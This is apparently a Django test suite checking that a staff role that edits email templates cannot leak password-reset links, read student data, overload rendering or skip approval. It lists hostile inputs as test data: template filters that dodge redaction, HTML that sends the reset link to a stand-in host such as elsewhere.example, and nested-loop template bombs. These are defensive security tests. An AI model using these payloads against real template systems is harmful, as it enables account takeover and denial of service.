"""
The copy role's limits (issue 23, items 1-4), attacked through the real admin with staff who hold
only the permissions named: no account, no one's data, no worker, no approval is reachable by
editing copy.
"""

import datetime as dt
import re
from html import unescape
from urllib.parse import unquote

import pytest
from django.contrib.auth.models import Permission
from django.core import mail
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from lms import reminders
from lms.models import User
from lms.tests.factories import PaymentFactory, StaffUserFactory, UserFactory
from lms.tests.links import emailed_link, open_link
from notifications.copy.published import forget_published_versions
from notifications.models import Delivery, MessageTemplate, Notification
from notifications.rendering import REDACTED
from notifications.services.dispatch import dispatch_due_deliveries

pytestmark = pytest.mark.django_db
ADD = reverse("admin:notifications_messagetemplate_add")
# A Django password-reset token: "<timestamp in base 36>-<32 hex digits>".
TOKEN = re.compile(r"[0-9a-z]{1,13}-[0-9a-f]{32}")

# Ways to get the link past an exact-string redaction, or out through the mail client.
FILTERED_LINKS = [
    "{{ set_password_url|urlencode:'' }}",
    "{{ set_password_url|slice:':60' }}",
    "{{ set_password_url|cut:'/' }}",
    "{{ set_password_url|make_list|join:' ' }}",
    "{{ set_password_url|escape|safe }}",
    "{{ set_password_url|stringformat:'s' }}",
    "{{ set_password_url|first }}",
    "{{ set_password_url.0 }}",
    "{% filter upper %}{{ set_password_url }}{% endfilter %}",
    "{% with link=set_password_url %}{{ link }}{% endwith %}",
    "{% firstof set_password_url %}",
    "{% for c in set_password_url %}{{ c }} {% endfor %}",
    "{% if set_password_url|slice:'8:9' == 's' %}yes{% endif %}",
    "{% cycle set_password_url 'b' as row %}",
    "{% button url=set_password_url as html %}{{ html|cut:'/' }}",
]
LOADING_HTML = [
    "<img src=\"https://elsewhere.example/?u={{ set_password_url|urlencode:'' }}\">",
    '<p>{{ set_password_url }}</p><img src="https://elsewhere.example/pixel.gif">',
    '<p style="background:url(https://elsewhere.example/x)"><a href="{{ set_password_url }}">Set it</a></p>',
    '<a href="https://elsewhere.example/?u={{ set_password_url }}">Set it</a>',
    '<img src="https://elsewhere.example/?u={{ set_password_url }}">',
    '{{ "<img src=\'https://elsewhere.example/?u=" }}{{ set_password_url }}{{ "\'>" }}',
    '{% button url=set_password_url color="red;background-image:url(https://elsewhere.example/x)" %}',
    '<!--[if mso]><v:image src="https://elsewhere.example/x"/><![endif]--><a href="{{ set_password_url }}">x</a>',
    '<style>a[href^="https://school.example/accounts/set-password/M"]{background:url(https://e.example/)}</style>',
    '{% if first_name == "Zed" %}<img src="https://elsewhere.example/p.gif">{% endif %}{{ set_password_url }}',
]


def staff(*perms: str, **fields) -> tuple[Client, User]:
    if fields.get("phone"):
        fields.setdefault("phone_verified_at", timezone.now())  # proved by its one-time code
    user = StaffUserFactory(**fields)
    user.user_permissions.add(*Permission.objects.filter(codename__in=perms))
    client = Client()
    client.force_login(user)
    return client, user


def add_version(client, *, kind, channel="email", language="en", **parts):
    data = {"kind": kind, "channel": channel, "language": language, "subject": "", "text": "", "html": ""}
    data |= {"whatsapp_content_sid": "", "whatsapp_variables": "", "note": "", "_save": "Save", **parts}
    return client.post(ADD, data)


def change_version(client, version, **parts):
    data = {name: getattr(version, name) for name in ("subject", "text", "html", "whatsapp_content_sid", "note")}
    data |= {"whatsapp_variables": ", ".join(version.whatsapp_variables or []), "_save": "Save", **parts}
    return client.post(reverse("admin:notifications_messagetemplate_change", args=[version.pk]), data)


def shown_hash(client, version) -> str:
    page = client.get(reverse("admin:notifications_messagetemplate_change", args=[version.pk])).content.decode()
    return re.search(r'name="content_hash" value="([0-9a-f]+)"', page).group(1)


def publish(client, version, seen_hash: str | None = None):
    data = {"content_hash": seen_hash if seen_hash is not None else shown_hash(client, version)}
    url = reverse("admin:notifications_messagetemplate_publish", args=[version.pk])
    return client.post(url, data, follow=True).content.decode()


def no_credential_in(page: str) -> bool:
    """No set-password link and no reset token in the page, however it was encoded or split."""
    flat = re.sub(r"\s+", "", unquote(unescape(unquote(page)))).lower()
    return not TOKEN.search(flat) and "set-password/" not in flat and "setpassword" not in flat.replace("-", "")


@pytest.fixture
def root(client):
    """A superuser who asked for a set-password link, sent by the worker with the shipped copy."""
    user = User.objects.create_superuser(email="root@school.example", password="Very-long-admin-pass-1")
    client.post(reverse("password_reset"), {"email": user.email}, REMOTE_ADDR="203.0.113.7")
    dispatch_due_deliveries()
    mail.outbox.clear()
    return user


def publish_around_the_admin(**fields) -> MessageTemplate:
    """A version live without the admin's checks (saved before a rule existed, or in the database)."""
    fields = {"channel": "email", "language": "en", "version": 1, "status": "published", **fields}
    version = MessageTemplate.objects.create(**fields)
    forget_published_versions()
    return version


def reset_delivery() -> Delivery:
    return Delivery.objects.get(event__kind="set_password_link", to_address="root@school.example")


# --- 1. No credential reaches staff ---------------------------------------------------------------


@pytest.mark.parametrize("text", FILTERED_LINKS)
@pytest.mark.parametrize("kind", ["set_password_link", "welcome"])
def test_copy_with_the_access_link_filtered_or_aliased_cannot_be_saved(kind, text):
    publisher, _ = staff("edit_message_copy", "publish_message_copy")
    response = add_version(publisher, kind=kind, subject="Your link", text=f"Hi {{{{ first_name }}}}, {text}")
    assert response.status_code == 200  # the form again, with the problem
    assert "personal link" in response.content.decode()
    assert not MessageTemplate.objects.exists()


@pytest.mark.parametrize("html", LOADING_HTML)
def test_html_that_loads_anything_by_itself_or_moves_the_link_cannot_be_saved_for_a_kind_with_one(html):
    publisher, _ = staff("edit_message_copy", "publish_message_copy")
    response = add_version(
        publisher, kind="set_password_link", subject="Your link", text="Set it: {{ set_password_url }}", html=html
    )
    assert response.status_code == 200 and "personal link" in response.content.decode()
    assert not MessageTemplate.objects.exists()


@pytest.mark.parametrize(
    "kind, text",
    [("set_password_link", "Link {{ set_password_url }}"), ("lead_day3", "Go {{ cta_url }}")],
)
def test_an_access_link_cannot_be_put_in_a_subject_or_an_in_app_message(kind, text):
    publisher, _ = staff("edit_message_copy", "publish_message_copy")
    response = add_version(publisher, kind=kind, subject=text, text="Hi {{ first_name }}")
    assert response.status_code == 200 and "cannot be in this part" in response.content.decode()
    response = add_version(publisher, kind="welcome", channel="inapp", subject="Hi", text="{{ set_password_url }}")
    assert response.status_code == 200 and "cannot be in this part" in response.content.decode()
    assert not MessageTemplate.objects.exists()


def test_the_link_in_its_slot_saves_and_the_reset_email_carries_a_working_link(client):
    publisher, _ = staff("edit_message_copy", "publish_message_copy")
    response = add_version(
        publisher,
        kind="set_password_link",
        subject="Choose your password",
        text="Hi {{ first_name }}, choose it here: {{ set_password_url }}",
        html='<p>Hi {{ first_name }},</p><p><a href="{{ set_password_url }}">Choose it</a></p>'
        '{% button url=set_password_url label="Set your password" %}',
    )
    assert response.status_code == 302
    version = MessageTemplate.objects.get()
    assert "is published" in publish(publisher, version)

    student = UserFactory(email="nisha@example.com", name="Nisha Rao")
    client.post(reverse("password_reset"), {"email": student.email}, REMOTE_ADDR="203.0.113.9")
    dispatch_due_deliveries()
    (message,) = mail.outbox
    link = emailed_link(message.body)
    assert link in message.alternatives[0][0]
    assert "Choose your password" in open_link(client, link).content.decode()
    assert REDACTED in Delivery.objects.get(to_address=student.email).rendered_text


def test_a_view_only_staff_member_opening_an_old_reset_finds_no_working_link_whatever_copy_is_live(root):
    publish_around_the_admin(
        kind="set_password_link",
        subject="Your link",
        text="Hi {{ first_name }} {{ set_password_url|urlencode:'' }} {{ set_password_url|make_list|join:' ' }}",
        html='<p>{{ set_password_url|cut:"/" }}</p><img src="https://elsewhere.example/?u={{ set_password_url }}">',
    )
    viewer, _ = staff("view_delivery")
    page = viewer.get(reverse("admin:notifications_delivery_change", args=[reset_delivery().pk]))
    assert page.status_code == 200
    content = page.content.decode()
    assert no_credential_in(content)
    assert "elsewhere.example" not in content  # the page shows the copy it was sent with: the shipped one
    assert "Here is a new link to choose the password" in unescape(content)
    # And the taken-over account the attack was after stays out of reach.
    assert viewer.get("/admin/auth/group/add/").status_code == 403


def test_the_delivery_page_shows_the_copy_it_was_sent_with_not_the_copy_published_since(root):
    publisher, _ = staff("edit_message_copy", "publish_message_copy")
    add_version(
        publisher,
        kind="set_password_link",
        subject="Brand new subject",
        text="Brand new copy: {{ set_password_url }}",
    )
    publish(publisher, MessageTemplate.objects.get())
    viewer, _ = staff("view_delivery")
    content = unescape(
        viewer.get(reverse("admin:notifications_delivery_change", args=[reset_delivery().pk])).content.decode()
    )
    assert "Brand new copy" not in content and "Here is a new link to choose the password" in content


def test_reset_copy_written_around_the_admin_is_not_sent_and_the_message_says_why():
    publish_around_the_admin(
        kind="set_password_link",
        subject="Your link",
        text="Hi {{ set_password_url|urlencode:'' }}",
    )
    student = UserFactory(email="nisha@example.com", name="Nisha Rao")
    Client().post(reverse("password_reset"), {"email": student.email}, REMOTE_ADDR="203.0.113.9")
    dispatch_due_deliveries()
    assert mail.outbox == []
    delivery = Delivery.objects.get(to_address=student.email)
    assert delivery.status == "failed" and "personal link" in delivery.last_error


@pytest.mark.parametrize("kind, link", [("set_password_link", "set_password_url"), ("welcome", "set_password_url")])
def test_a_preview_and_a_test_send_of_copy_with_an_access_link_carry_no_working_link(
    kind, link, root, django_capture_on_commit_callbacks
):
    editor, me = staff("edit_message_copy", "view_delivery", email="editor@school.example")
    add_version(editor, kind=kind, subject="Your link", text=f"Hi {{{{ first_name }}}}: {{{{ {link} }}}}")
    version = MessageTemplate.objects.get()
    preview = editor.get(reverse("admin:notifications_messagetemplate_preview", args=[version.pk]))
    assert REDACTED in unescape(preview.content.decode()) and no_credential_in(preview.content.decode())

    with django_capture_on_commit_callbacks(execute=True):
        editor.post(reverse("admin:notifications_messagetemplate_send_test", args=[version.pk]))
    (message,) = mail.outbox
    assert message.to == [me.email] and REDACTED in message.body
    assert no_credential_in(message.body) and no_credential_in(message.alternatives[0][0])


# --- 2. The copy role reads no one's data -------------------------------------------------------


@pytest.fixture
def paying_student():
    student = UserFactory(email="meera@example.com", name="Meera Shah", phone="+919812345678", whatsapp_opt_in=True)
    PaymentFactory(
        student=student,
        amount="7321",
        payment_url="https://pay.example.com/checkout/pl_secret_meera",
        created_at=timezone.now() - dt.timedelta(days=4),
    )
    reminders.plan_payment_reminders(now=timezone.now())
    return student


def payment_version(client) -> MessageTemplate:
    add_version(
        client,
        kind="payment_reminder",
        subject="Pay {{ amount }}",
        text="Hi {{ first_name }}, pay {{ amount }} at {{ payment_url }}",
    )
    return MessageTemplate.objects.get()


def test_a_copy_editor_without_access_to_deliveries_previews_sample_data_only(paying_student):
    editor, _ = staff("edit_message_copy", "publish_message_copy")
    version = payment_version(editor)
    url = reverse("admin:notifications_messagetemplate_preview", args=[version.pk])
    page = editor.get(url).content.decode()
    for private in ("meera@example.com", "+919812345678", "Meera", "7,321", "pl_secret_meera"):
        assert private not in page
    delivery = Delivery.objects.get(recipient=paying_student, channel="email")
    assert editor.get(url, {"delivery": delivery.pk}).status_code == 403


def test_with_delivery_access_a_preview_lists_people_by_name_on_the_templates_channel_and_hides_links(
    paying_student,
):
    editor, _ = staff("edit_message_copy", "view_delivery")
    version = payment_version(editor)
    url = reverse("admin:notifications_messagetemplate_preview", args=[version.pk])
    page = editor.get(url).content.decode()
    email = Delivery.objects.get(recipient=paying_student, channel="email")
    whatsapp = Delivery.objects.get(recipient=paying_student, channel="whatsapp")
    assert f'value="{email.pk}"' in page and "Meera Shah" in page
    assert f'value="{whatsapp.pk}"' not in page  # an email's preview lists emails, not numbers
    assert "meera@example.com" not in page and "+919812345678" not in page

    chosen = editor.get(url, {"delivery": email.pk}).content.decode()
    assert "Hi Meera, pay ₹7,321" in unescape(chosen)
    assert "pl_secret_meera" not in chosen and "pay.example.com" not in chosen
    assert editor.get(url, {"delivery": whatsapp.pk}).status_code == 404


def test_a_test_send_goes_to_the_editor_with_sample_data_whatever_delivery_is_posted(
    paying_student, django_capture_on_commit_callbacks
):
    editor, me = staff("edit_message_copy", email="editor@school.example", name="Priya Staff")
    version = payment_version(editor)
    real = Delivery.objects.get(recipient=paying_student, channel="email")
    with django_capture_on_commit_callbacks(execute=True):
        editor.post(reverse("admin:notifications_messagetemplate_send_test", args=[version.pk]), {"delivery": real.pk})
    (message,) = mail.outbox
    assert message.to == [me.email] and "Hi Priya" in message.body
    assert "7,321" not in message.body and "pl_secret_meera" not in message.body


def test_a_whatsapp_test_goes_only_to_the_editors_own_number(django_capture_on_commit_callbacks):
    editor, me = staff("edit_message_copy", phone="+919800000001")
    add_version(editor, kind="payment_reminder", channel="whatsapp", text="Hi {{ first_name }}, pay {{ amount }}")
    version = MessageTemplate.objects.get()
    url = reverse("admin:notifications_messagetemplate_send_test", args=[version.pk])
    with django_capture_on_commit_callbacks(execute=True):
        editor.post(url, {"to": "+919812345678", "delivery": "1"})
    assert Delivery.objects.get(is_test=True).to_address == me.phone

    no_phone, _ = staff("edit_message_copy", phone="")
    assert "no verified phone number" in no_phone.post(url, follow=True).content.decode()
    assert Delivery.objects.filter(is_test=True).count() == 1


# --- 3. Templates within limits -------------------------------------------------------------------

LETTERS = "x" * 40
LOOPS = (
    f'{{% for a in "{LETTERS}"|make_list %}}{{% for b in "{LETTERS}"|make_list %}}'
    f'{{% for c in "{LETTERS}"|make_list %}}{{% for d in "{LETTERS}"|make_list %}}'
    "{{ first_name }}{% endfor %}{% endfor %}{% endfor %}{% endfor %}"
)
BIG = '{% with a=first_name|center:"1000" %}{% with b=a|add:a|add:a|add:a %}'
BIG_END = "{% endwith %}{% endwith %}"
TWO_LOOPS = f'{{% for x in "{LETTERS}"|make_list %}}{{% for y in "{LETTERS}"|make_list %}}'
BOMBS = [
    BIG + TWO_LOOPS + "{% cycle b a %}{% endfor %}{% endfor %}" + BIG_END,
    BIG + TWO_LOOPS + "{% firstof b %}{% endfor %}{% endfor %}" + BIG_END,
    TWO_LOOPS + "{% lorem 900 p %}{% endfor %}{% endfor %}",
    TWO_LOOPS + "{% verbatim %}" + "y" * 5000 + "{% endverbatim %}{% endfor %}{% endfor %}",
    '{{ first_name|center:"200000000" }}',
    '{{ first_name|ljust:"99999999" }}',
    "{{ amount|stringformat:'0200000000d' }}",
    "{% lorem 99999999 w %}",
    LOOPS,
    '{% if first_name != "Asha" %}' + LOOPS + "{% endif %}",
    '{% if first_name == "Asha" %}short{% else %}' + LOOPS + "{% endif %}",
    "{% with a=first_name|add:first_name %}{% with b=a|add:a %}{% with c=b|add:b %}{% with d=c|add:c %}"
    + "{% with e=d|make_list|join:d %}{% with f=e|make_list|join:e %}{{ f }}"
    + "{% endwith %}{% endwith %}{% endwith %}{% endwith %}{% endwith %}{% endwith %}",
]


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_template_over_the_limits_cannot_be_saved(bomb):
    editor, _ = staff("edit_message_copy", "publish_message_copy")
    response = add_version(editor, kind="payment_reminder", subject="Pay", text=f"Hi {{{{ first_name }}}} {bomb}")
    assert response.status_code == 200
    assert re.search(r"too big|asks for more|more work", response.content.decode())
    assert not MessageTemplate.objects.exists()


def test_a_bomb_published_around_the_admin_fails_only_its_recipients_message_with_the_reason():
    publish_around_the_admin(
        kind="payment_reminder",
        subject="Pay {{ amount }}",
        text='Hi {{ first_name }}{% if first_name == "Meera" %}' + LOOPS + "{% endif %}",
    )
    meera = UserFactory(email="meera@example.com", name="Meera Shah", no_phone=True)
    ravi = UserFactory(email="ravi@example.com", name="Ravi Kumar", no_phone=True)
    for student in (meera, ravi):
        PaymentFactory(student=student, created_at=timezone.now() - dt.timedelta(days=4))
    reminders.plan_payment_reminders(now=timezone.now())
    dispatch_due_deliveries()
    failed = Delivery.objects.get(recipient=meera, channel="email")
    sent = Delivery.objects.get(recipient=ravi, channel="email")
    assert failed.status == "failed" and "more work than a message may take" in failed.last_error
    assert sent.status == "sent" and [m.to for m in mail.outbox] == [[ravi.email]]


def test_an_in_app_bomb_does_not_stop_planning_its_recipient_gets_the_shipped_message():
    publish_around_the_admin(
        kind="payment_reminder",
        channel="inapp",
        subject="Pay {{ amount }}",
        text='Hi {{ first_name }}, staff copy{% if first_name == "Meera" %}' + LOOPS + "{% endif %}",
    )
    meera = UserFactory(email="meera@example.com", name="Meera Shah", no_phone=True)
    ravi = UserFactory(email="ravi@example.com", name="Ravi Kumar", no_phone=True)
    for student in (meera, ravi):
        PaymentFactory(student=student, created_at=timezone.now() - dt.timedelta(days=4))
    reminders.plan_payment_reminders(now=timezone.now())
    assert "staff copy" in Notification.objects.get(user=ravi).message
    assert "staff copy" not in Notification.objects.get(user=meera).message  # the shipped text
    assert Delivery.objects.filter(recipient__in=[meera, ravi], channel="email").count() == 2


# --- 4. Second-person approval --------------------------------------------------------------------


@pytest.fixture
def approval_on(settings):
    settings.TEMPLATE_APPROVAL_REQUIRED_FOR_MARKETING = True


def test_an_approval_is_for_the_text_the_approver_saw_not_an_edit_made_after(approval_on):
    author, _ = staff("edit_message_copy", "publish_message_copy")
    reviewer, ravi = staff("edit_message_copy", "publish_message_copy")
    add_version(author, kind="lead_day3", subject="Still with us?", text="Hi {{ first_name }}: {{ cta_url }}")
    version = MessageTemplate.objects.get()
    assert "waits for approval" in publish(author, version)
    seen = shown_hash(reviewer, version)  # the reviewer reads it...

    change_version(author, version, text="Hi {{ first_name }}, BUY NOW: {{ cta_url }}")  # ...the author edits
    version.refresh_from_db()
    assert "waits for approval" in publish(author, version)

    assert "changed since you opened it" in publish(reviewer, version, seen_hash=seen)
    version.refresh_from_db()
    assert version.status == "awaiting_approval" and version.approved_by is None
    assert "is published" in publish(reviewer, version)  # having read the text now asked for
    version.refresh_from_db()
    assert (version.status, version.approved_by) == ("published", ravi)


def test_an_approval_posted_without_the_form_is_still_for_the_text_the_approver_last_opened(approval_on):
    author, _ = staff("edit_message_copy", "publish_message_copy")
    reviewer, _ = staff("edit_message_copy", "publish_message_copy")
    add_version(author, kind="lead_day3", subject="Still with us?", text="Hi {{ first_name }}: {{ cta_url }}")
    version = MessageTemplate.objects.get()
    publish(author, version)
    reviewer.get(reverse("admin:notifications_messagetemplate_preview", args=[version.pk]))  # reads it
    change_version(author, version, text="Hi {{ first_name }}, BUY NOW: {{ cta_url }}")
    version.refresh_from_db()
    publish(author, version)  # asks again, for the new text

    url = reverse("admin:notifications_messagetemplate_publish", args=[version.pk])
    assert "changed since you opened it" in reviewer.post(url, follow=True).content.decode()
    version.refresh_from_db()
    assert version.status == "awaiting_approval" and version.approved_by is None


def test_a_draft_nobody_asked_approval_for_is_not_approved_blind(approval_on):
    author, _ = staff("edit_message_copy")
    reviewer, _ = staff("edit_message_copy", "publish_message_copy")
    add_version(author, kind="lead_day3", subject="Still with us?", text="Hi {{ first_name }}: {{ cta_url }}")
    version = MessageTemplate.objects.get()
    url = reverse("admin:notifications_messagetemplate_publish", args=[version.pk])
    assert "an approval is for the text you saw" in reviewer.post(url, follow=True).content.decode()
    version.refresh_from_db()
    assert version.status == "draft"
    assert "is published" in publish(reviewer, version)  # from the version's page


def test_no_one_approves_their_own_rewrite_after_a_colleague_saves_it_again(approval_on):
    colleague, asha = staff("edit_message_copy")
    rewriter, _ = staff("edit_message_copy", "publish_message_copy")
    add_version(colleague, kind="lead_day3", subject="Still with us?", text="Hi {{ first_name }}: {{ cta_url }}")
    version = MessageTemplate.objects.get()
    change_version(rewriter, version, text="Hi {{ first_name }}, 90% OFF TODAY: {{ cta_url }}")
    version.refresh_from_db()
    change_version(colleague, version, note="typo")  # the colleague saves last: the rewriter is no "editor" now
    version.refresh_from_db()
    assert (version.created_by, version.edited_by) == (asha, asha)

    assert "waits for approval" in publish(rewriter, version)  # an author asks; they do not approve
    assert "another staff member must approve it" in publish(rewriter, version)
    version.refresh_from_db()
    assert version.status == "awaiting_approval" and version.approved_by is None


def test_an_author_of_another_draft_since_the_last_publish_cannot_approve_a_copy_of_it(approval_on):
    rewriter, _ = staff("edit_message_copy", "publish_message_copy")
    colleague, _ = staff("edit_message_copy", "publish_message_copy")
    rewrite = "Hi {{ first_name }}, 90% OFF TODAY: {{ cta_url }}"
    add_version(rewriter, kind="lead_day3", subject="Still with us?", text=rewrite)
    add_version(colleague, kind="lead_day3", subject="Still with us?", text=rewrite)  # copied by a colleague
    copied = MessageTemplate.objects.get(version=2)
    publish(colleague, copied)
    copied.refresh_from_db()
    assert copied.status == "awaiting_approval"
    publish(rewriter, copied)
    copied.refresh_from_db()
    assert copied.status == "awaiting_approval"


def test_with_approval_on_transactional_copy_needs_a_second_person_too(approval_on):
    author, _ = staff("edit_message_copy", "publish_message_copy")
    add_version(author, kind="payment_reminder", subject="Pay", text="BIG SALE {{ first_name }} {{ payment_url }}")
    version = MessageTemplate.objects.get()
    assert "waits for approval" in publish(author, version)
    version.refresh_from_db()
    assert version.status == "awaiting_approval"
